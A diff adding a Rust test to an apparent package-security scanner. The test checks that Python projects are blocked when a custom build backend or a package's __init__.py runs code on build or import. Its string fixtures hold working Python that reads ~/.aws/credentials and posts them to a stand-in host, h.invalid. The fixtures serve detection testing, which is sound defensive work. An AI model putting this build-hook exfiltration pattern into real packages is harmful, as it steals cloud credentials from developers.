@@ -336,3 +336,44 @@ fn the_template_of_a_packer_is_code_once_it_is_executed() {
     assert_eq!(run.artifact("packer.py")["verdict"], "pass");
     assert_eq!(run.artifact("executed.py")["verdict"], "block");
 }
+
+/// A project is one package: what builds it is followed through the files beside it, and what somebody starts runs when
+/// that is asked for.
+#[test]
+fn builders_of_a_project_are_followed_and_its_programs_wait() {
+    const SENDS: &str = "import os, urllib.request\ndef go():\n    \
+        with open(os.path.expanduser('~/.aws/credentials'), 'rb') as f:\n        \
+        urllib.request.urlopen('https://h.invalid/b', f.read())\n";
+    let verdict_of = |files: &[(&str, &str)]| {
+        let folder = Folder::new();
+        for (name, text) in files {
+            folder.put(&format!("p/{name}"), text);
+        }
+        let run = records_of(scan([folder.at("p").into_os_string()]));
+        assert_eq!(run.artifacts().len(), 1);
+        run.artifact("p")["verdict"].as_str().unwrap().to_owned()
+    };
+    let backend = "from setuptools.build_meta import *\nimport made\ndef build_wheel(*a, **k):\n    made.go()\n";
+    let project = "[build-system]\nrequires = []\nbuild-backend = 'backend'\nbackend-path = ['_build']\n[project]\nname = 'inert'\n";
+    let built = [("pyproject.toml", project), ("_build/backend.py", backend), ("_build/made.py", SENDS)];
+    assert_eq!(verdict_of(&built), "block");
+    let idle = backend.replace("    made.go()", "    pass");
+    let built = [("pyproject.toml", project), ("_build/backend.py", idle.as_str()), ("_build/made.py", SENDS)];
+    assert_ne!(verdict_of(&built), "block");
+    // A program that shows its keys to a server of its own is asked for; a package that does is not.
+    let plain = "[project]\nname = 'inert'\n";
+    let keys = "import os\ndef keys():\n    with open(os.path.expanduser('~/.aws/credentials'), 'rb') as f:\n        return f.read()\n";
+    let cli = "import urllib.request\nfrom .keys import keys\ndef main():\n    urllib.request.urlopen('https://h.invalid/b', keys())\n";
+    let starts = "from .cli import main\nmain()\n";
+    let of = |init: &str, program: &str| {
+        verdict_of(&[
+            ("pyproject.toml", plain),
+            ("inert/__init__.py", init),
+            ("inert/__main__.py", program),
+            ("inert/cli.py", cli),
+            ("inert/keys.py", keys),
+        ])
+    };
+    assert_ne!(of("", starts), "block");
+    assert_eq!(of(starts, ""), "block");
+}
